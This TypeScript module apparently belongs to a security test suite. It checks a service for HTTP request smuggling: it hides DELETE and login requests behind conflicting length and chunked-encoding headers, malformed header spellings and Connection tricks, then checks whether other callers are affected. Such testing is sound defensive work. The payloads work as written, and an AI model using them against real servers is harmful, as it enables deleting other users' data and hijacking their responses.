import type { Finding, Target } from './attack.ts';
import { RawConnection } from './raw-connection.ts';
import { Victim } from './victim.ts';

/** A way to hide a request in the body of another. */
export interface Disguise {
  readonly name: string;
  /** Headers of the visible request. */
  readonly lines: (hidden: string) => readonly string[];
  /** Body of the visible request; the hidden request alone if undefined. */
  readonly body?: (hidden: string) => string;
}

const attempts = 5;
export const methods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST'];
const attackerWaitsMs = 500;

const lengthOf = (body: string): string => `Content-Length: ${String(body.length)}`;
const chunksOf = (hidden: string): string => `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
const afterNothing = (hidden: string): string => `0\r\n\r\n${hidden}`;

/** The ways to hide a request. Each is tried with every method. */
export const disguises: readonly Disguise[] = [
  {
    name: 'length that Connection hides',
    lines: (hidden) => ['Connection: keep-alive, content-length', lengthOf(hidden)],
  },
  {
    name: 'chunks that Connection hides',
    lines: () => ['Connection: transfer-encoding', 'Transfer-Encoding: chunked'],
    body: chunksOf,
  },
  {
    name: 'length and chunks',
    lines: (hidden) => [lengthOf(afterNothing(hidden)), 'Transfer-Encoding: chunked'],
    body: afterNothing,
  },
  { name: 'two lengths', lines: (hidden) => ['Content-Length: 0', lengthOf(hidden)] },
  { name: 'chunks in another encoding', lines: () => ['Transfer-Encoding: chunked, identity'], body: afterNothing },
  {
    name: 'chunks spelt with a space',
    lines: (hidden) => ['Transfer-Encoding : chunked', lengthOf(hidden)],
    body: afterNothing,
  },
  {
    name: 'chunks spelt with _',
    lines: (hidden) => ['Transfer_Encoding: chunked', lengthOf(afterNothing(hidden))],
    body: afterNothing,
  },
  { name: 'length in a folded line', lines: (hidden) => ['X-Any: a', ` ${lengthOf(hidden)}`] },
  { name: 'length after a bare line feed', lines: (hidden) => [`X-Any: a\n${lengthOf(hidden)}`] },
  { name: 'upgrade with a body', lines: (hidden) => ['Connection: upgrade', 'Upgrade: websocket', lengthOf(hidden)] },
  { name: 'expectation with a body', lines: (hidden) => ['Expect: 100-continue', lengthOf(hidden)] },
  { name: 'plain length', lines: (hidden) => [lengthOf(hidden)] },
  { name: 'plain chunks', lines: () => ['Transfer-Encoding: chunked'], body: chunksOf },
];

const protectedNames = ['x-api-key', 'cookie', 'host', 'origin', 'x-csrf-token', 'x-forwarded-for', 'x-gateway-secret'];

/** Hides requests of a stranger in bodies and checks whether they affect other callers. */
export async function* hiddenRequestAttacks(target: Target): AsyncIterable<Finding> {
  const victim = await Victim.of(target);
  try {
    for (const disguise of disguises) {
      for (const method of methods) yield await removeByOthers(victim, method, disguise);
    }
    yield await shiftAnswers(victim);
    yield* dropHeaders(victim);
  } finally {
    await victim.restore();
    await victim.removeRecord();
  }
}

/** Hides the beginning of a removal, which another caller's request with its key would complete. */
async function removeByOthers(victim: Victim, method: string, disguise: Disguise): Promise<Finding> {
  const answers = new Set<string>();
  let harm = 0;
  for (let attempt = 0; attempt < attempts; attempt++) {
    await victim.restore();
    const hidden = `DELETE ${victim.record} HTTP/1.1\r\nHost: hidden\r\nX-Swallow: `;
    const head = [`${method} /api/nothing HTTP/1.1`, 'Host: a', ...disguise.lines(hidden)].join('\r\n');
    const attacker = await RawConnection.open(victim.port, victim.host);
    attacker.write(`${head}\r\n\r\n${disguise.body?.(hidden) ?? hidden}`);
    answers.add(String((await attacker.answer(method, attackerWaitsMs))?.status ?? 'cut'));
    for (let times = 0; times < 3; times++) if (!(await victim.readsItsRecord())) harm += 1;
    attacker.destroy();
  }
  return {
    attack: disguise.name,
    route: `${method} /api/nothing`,
    answer: `${[...answers].join(', ')}; ${String(harm)} foreign answers`,
    withstood: harm === 0,
  };
}

/** Hides a slow request, which would shift the answers to other callers by one, so that the attacker reads one. */
async function shiftAnswers(victim: Victim): Promise<Finding> {
  const body = '{"login":"nobody@example.org","password":"wrong"}';
  const type = 'Content-Type: application/json';
  const hidden = `POST /api/session HTTP/1.1\r\nHost: a\r\n${type}\r\n${lengthOf(body)}\r\n\r\n${body}`;
  const lines = ['GET /api/nothing HTTP/1.1', 'Host: a', 'Connection: keep-alive, content-length', lengthOf(hidden)];
  let harm = 0;
  for (let attempt = 0; attempt < attempts; attempt++) {
    const attacker = await RawConnection.open(victim.port, victim.host);
    attacker.write(`${lines.join('\r\n')}\r\n\r\n${hidden}`);
    await attacker.answer('GET', attackerWaitsMs);
    const read = await Promise.all([1, 2, 3].map(() => victim.readsItsRecord()));
    harm += read.filter((isOwn) => !isOwn).length;
    attacker.write('GET /api/nothing HTTP/1.1\r\nHost: a\r\n\r\n');
    if ((await attacker.answer('GET', attackerWaitsMs))?.headers['set-cookie'] !== undefined) harm += 1;
    attacker.destroy();
  }
  const answer = `${String(harm)} foreign answers`;
  return { attack: 'slow login that Connection hides', route: 'GET /api/nothing', answer, withstood: harm === 0 };
}

/** Sends a `Connection` header that names headers which identify the caller. */
async function* dropHeaders({ port, host }: Victim): AsyncIterable<Finding> {
  for (const name of protectedNames) {
    const request = `GET /api/nothing HTTP/1.1\r\nHost: a\r\nConnection: close, ${name}\r\n\r\n`;
    const status = (await RawConnection.exchange(port, request, 'GET', host))?.status;
    const attack = `Connection names ${name}`;
    yield { attack, route: 'GET /api/nothing', answer: String(status ?? 'cut'), withstood: status === 400 };
  }
}
